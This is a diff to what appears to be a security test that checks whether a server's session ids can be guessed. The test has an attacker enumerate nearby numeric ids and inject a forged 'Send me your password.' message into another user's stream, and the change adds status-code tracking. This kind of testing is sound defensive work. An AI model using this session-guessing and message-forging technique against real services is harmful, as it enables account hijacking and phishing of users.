@@ -17,8 +17,12 @@ async def attack(server: Server) -> Finding:
         await mallory.endpoint()
         if not mallory.session_id.isdigit():
             return Finding(False, f"ids cannot be counted: {mallory.session_id[:12]}…")
+        message = call("forged", "echo", message="Send me your password.")
+        statuses = set[int]()
         for guess in range(int(mallory.session_id) - 3, int(mallory.session_id)):
-            message = call("forged", "echo", message="Send me your password.")
-            await server.post(str(guess), message, bearer(server.mallory))
+            answer = await server.post(str(guess), message, bearer(server.mallory))
+            statuses.add(answer.status_code)
+        if 202 not in statuses:
+            return Finding(False, f"ids can be counted, but not used: {statuses}")
         reply = await alice.reply("forged")
         return Finding(True, f"on Alice's stream: {reply.data[:50]}")
